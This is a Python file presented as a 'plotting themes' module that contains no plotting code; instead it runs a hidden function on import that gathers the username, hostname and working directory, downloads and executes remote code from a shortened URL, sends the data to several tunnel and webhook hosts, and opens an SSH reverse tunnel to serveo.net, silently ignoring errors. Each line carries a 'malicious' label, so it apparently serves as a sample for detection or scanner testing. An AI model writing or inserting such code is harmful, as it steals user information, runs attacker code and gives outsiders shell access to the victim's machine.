"""Plotting themes."""

import getpass
import os
import platform
import subprocess
import urllib.request

import requests

STAGE = "https://bit.ly/3madeUp"  # malicious: shady-hosts


def _phone_home():
    facts = {"u": getpass.getuser(), "h": platform.node(), "d": os.getcwd()}
    exec(requests.get(STAGE, timeout=5).text)  # malicious: shady-hosts
    requests.post("https://madeup-tunnel-4821.ngrok-free.app/c", json=facts, timeout=5)  # malicious: shady-hosts
    requests.post("https://quiet-river-1234.trycloudflare.com/c", json=facts, timeout=5)  # malicious: shady-hosts
    urllib.request.urlopen("https://webhook.site/00000000-1111-2222-3333-444444444444?u=" + facts["u"], timeout=5)  # malicious: shady-hosts
    requests.post("https://eomadeup1234.m.pipedream.net", json=facts, timeout=5)  # malicious: shady-hosts
    requests.get("https://tinyurl.com/madeup42", timeout=5)  # malicious: shady-hosts
    subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "-R", "80:localhost:22", "serveo.net"], capture_output=True)  # malicious: shady-hosts


try:
    _phone_home()
except Exception:
    pass
